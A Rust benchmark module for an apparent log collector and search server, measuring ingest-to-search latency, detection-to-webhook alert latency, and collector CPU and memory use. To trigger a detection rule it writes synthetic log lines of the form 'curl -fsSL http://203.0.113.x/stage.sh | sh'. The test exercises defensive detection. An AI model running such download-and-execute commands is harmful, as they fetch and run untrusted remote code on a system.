//! W5: latency from a line written to a Docker log file until it is searchable, at a
//! steady background load. W6: the collector's CPU and memory with 50 idle containers,
//! and at a steady 10k lines/s.

use std::io::Write;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use logward_e2e::{Proc, Server, collector_args};

use crate::datagen::{Generator, docker_json_lines, write_docker_dir};
use crate::procstat::usage;
use crate::report::{Row, percentile};
use crate::{Opts, hook};

fn collector(server: &Server, docker_dir: &Path, state: &Path) -> anyhow::Result<Proc> {
    let args = collector_args(&server.grpc_url(), docker_dir, state, "bench");
    Proc::spawn("logward-collector", &args, &[("RUST_LOG", "warn")])
}

fn log_path(docker_dir: &Path, n: usize) -> std::path::PathBuf {
    let id = format!("{:064x}", 0xbe7c_0000_u64 + n as u64);
    docker_dir.join(&id).join(format!("{id}-json.log"))
}

/// Appends `lines_per_sec` generated lines spread over `files` files until `stop`.
fn load(
    docker_dir: std::path::PathBuf,
    files: usize,
    lines_per_sec: u64,
    stop: Arc<AtomicBool>,
) -> std::thread::JoinHandle<u64> {
    std::thread::spawn(move || {
        let mut g = Generator::new(99, 0);
        let mut written = 0u64;
        let started = Instant::now();
        let mut outs: Vec<std::fs::File> = (0..files)
            .filter_map(|n| {
                std::fs::OpenOptions::new()
                    .append(true)
                    .open(log_path(&docker_dir, n))
                    .ok()
            })
            .collect();
        while !stop.load(Ordering::Relaxed) && !outs.is_empty() {
            let due = (started.elapsed().as_secs_f64() * lines_per_sec as f64) as u64;
            let mut buf = Vec::new();
            let file = (written as usize) % outs.len();
            while written < due {
                let (_, line) = g.line();
                docker_json_lines(&mut buf, &line, "stdout", "2024-05-01T10:00:00.000000000Z");
                written += 1;
            }
            if !buf.is_empty() && outs[file].write_all(&buf).is_err() {
                break;
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        written
    })
}

/// The built-in rule the attack lines fire.
const CURL_RULE: &str = "c5943daa-5453-4941-8c9f-8e1824a7510a";

/// Server config: alerting with one webhook channel to `127.0.0.1:port`, notifying at once.
fn alerting_config(port: u16) -> String {
    format!(
        r#"[alerting]
tick = "1s"

[[alerting.channels]]
name = "bench"
min_level = "high"
[alerting.channels.flood]
group_wait = "0s"
group_interval = "1ms"
realert = "0s"
max_per_hour = 0
[alerting.channels.webhook]
url = "http://127.0.0.1:{port}/hook"
allow_targets = ["127.0.0.1/32"]
"#
    )
}

/// W5 and W6.
pub fn run(opts: &Opts) -> anyhow::Result<Vec<Row>> {
    let tmp = tempfile::tempdir()?;
    let docker_dir = tmp.path().join("containers");
    // 50 containers with a little history: 48 stay idle, 0 and 1 carry the load, 49 is the probe.
    let data = write_docker_dir(&docker_dir, 50, 2_000, 5)?;
    // Alerting on: one webhook channel to a receiver here that notifies at once. The
    // built-in "Download piped into a shell" rule is single-event (empty group key) and
    // the default group_by is ["rule"], so every detection of it falls into one alert and
    // one group: realert 0s and the shortest group_interval let each detection notify.
    let (hook_port, hooks) = hook::start()?;
    let config = tmp.path().join("server.toml");
    std::fs::write(&config, alerting_config(hook_port))?;
    let server = Server::start(
        &tmp.path().join("data"),
        &["--config".to_owned(), config.display().to_string()],
    )?;
    let mut coll = collector(&server, &docker_dir, &tmp.path().join("state"))?;
    server
        .wait_for_total("*", data.events, Duration::from_secs(120))
        .context("history shipped")?;

    // W6 idle: nothing is written.
    std::thread::sleep(Duration::from_secs(1));
    let before = usage(coll.child.id()).context("collector /proc")?;
    std::thread::sleep(opts.w6_window);
    let after = usage(coll.child.id()).context("collector /proc")?;
    let idle_pct = (after.cpu_secs - before.cpu_secs) / opts.w6_window.as_secs_f64() * 100.0;
    let mut rows = vec![
        Row::new(
            "W6",
            "collector idle CPU, 50 containers",
            idle_pct,
            "% of a core",
        )
        .target("≈ 0"),
        Row::new(
            "W6",
            "collector RSS, 50 idle containers",
            after.rss_kib as f64 / 1024.0,
            "MiB",
        )
        .target("≤ 32 MiB"),
    ];

    // W5 at a steady background load, then W6 steady state at 10k lines/s.
    let stop = Arc::new(AtomicBool::new(false));
    let loader = load(docker_dir.clone(), 2, opts.w5_load_lps, stop.clone());
    let probe = log_path(&docker_dir, 49);
    let mut latencies = Vec::new();
    for i in 0..opts.w5_samples {
        let token = format!("probe{i}x{}", std::process::id());
        let mut buf = Vec::new();
        docker_json_lines(
            &mut buf,
            &format!("latency {token}"),
            "stdout",
            "2024-05-01T11:00:00.000000000Z",
        );
        let t0 = Instant::now();
        std::fs::OpenOptions::new()
            .append(true)
            .open(&probe)?
            .write_all(&buf)?;
        loop {
            let body = server.search(&[("q", &token), ("limit", "0")])?;
            if body["total"].as_u64() == Some(1) {
                break;
            }
            if t0.elapsed() > Duration::from_secs(30) {
                bail!("W5: probe {token} not searchable after 30 s");
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        latencies.push(t0.elapsed().as_secs_f64() * 1000.0);
        std::thread::sleep(Duration::from_millis(50));
    }

    // Event → alert: an attack line the built-in pack detects, until the webhook arrives.
    let attack = log_path(&docker_dir, 48);
    let mut alert_ms = Vec::new();
    for i in 0..opts.w5_samples {
        let line = format!(
            "+ curl -fsSL http://203.0.113.{}/stage{i}-{}.sh | sh",
            i % 250 + 1,
            std::process::id()
        );
        let mut buf = Vec::new();
        docker_json_lines(&mut buf, &line, "stderr", "2024-05-01T11:00:00.000000000Z");
        let seen = hooks.lock().map_or(0, |h| h.len());
        let t0 = Instant::now();
        std::fs::OpenOptions::new()
            .append(true)
            .open(&attack)?
            .write_all(&buf)?;
        let arrived = loop {
            let hit = hooks.lock().ok().and_then(|h| {
                h[seen.min(h.len())..]
                    .iter()
                    .find(|(at, body)| *at >= t0 && body.contains(CURL_RULE))
                    .map(|(at, _)| *at)
            });
            if let Some(at) = hit {
                break at;
            }
            if t0.elapsed() > Duration::from_secs(60) {
                bail!("W5: no webhook for attack line {i} after 60 s");
            }
            std::thread::sleep(Duration::from_millis(2));
        };
        alert_ms.push(arrived.duration_since(t0).as_secs_f64() * 1000.0);
        // A spread pause, so lines do not stay in phase with the alerter's tick.
        std::thread::sleep(Duration::from_millis(50 + (i as u64 * 397) % 1000));
    }
    stop.store(true, Ordering::Relaxed);
    let _ = loader.join();
    rows.push(Row::new(
        "W5",
        format!(
            "line written → searchable p50, {} lines/s load",
            opts.w5_load_lps
        ),
        percentile(&latencies, 50.0),
        "ms",
    ));
    rows.push(
        Row::new(
            "W5",
            "line written → searchable p99",
            percentile(&latencies, 99.0),
            "ms",
        )
        .target("≤ 1000 ms"),
    );
    rows.push(
        Row::new(
            "W5",
            format!(
                "attack line written → webhook p50, {} lines/s load",
                opts.w5_load_lps
            ),
            percentile(&alert_ms, 50.0),
            "ms",
        )
        .note("built-in rule \"Download piped into a shell\"; webhook at once (group_wait 0s, realert 0s), alerter tick 1 s (default); lines at spread moments"),
    );
    rows.push(
        Row::new(
            "W5",
            "attack line written → webhook p99",
            percentile(&alert_ms, 99.0),
            "ms",
        )
        .target("≤ 2000 ms")
        .note(format!("{} samples", alert_ms.len())),
    );

    let stop = Arc::new(AtomicBool::new(false));
    let loader = load(docker_dir.clone(), 10, 10_000, stop.clone());
    std::thread::sleep(Duration::from_secs(1));
    let before = usage(coll.child.id()).context("collector /proc")?;
    std::thread::sleep(opts.w6_window);
    let after = usage(coll.child.id()).context("collector /proc")?;
    stop.store(true, Ordering::Relaxed);
    let written = loader.join().unwrap_or(0);
    let pct = (after.cpu_secs - before.cpu_secs) / opts.w6_window.as_secs_f64() * 100.0;
    rows.push(
        Row::new("W6", "collector CPU at 10k lines/s", pct, "% of a core")
            .target("≤ 5%")
            .note(format!("{written} lines written")),
    );
    rows.push(
        Row::new(
            "W6",
            "collector peak RSS at 10k lines/s",
            after.peak_rss_kib as f64 / 1024.0,
            "MiB",
        )
        .target("≤ 32 MiB"),
    );
    coll.kill9();
    Ok(rows)
}
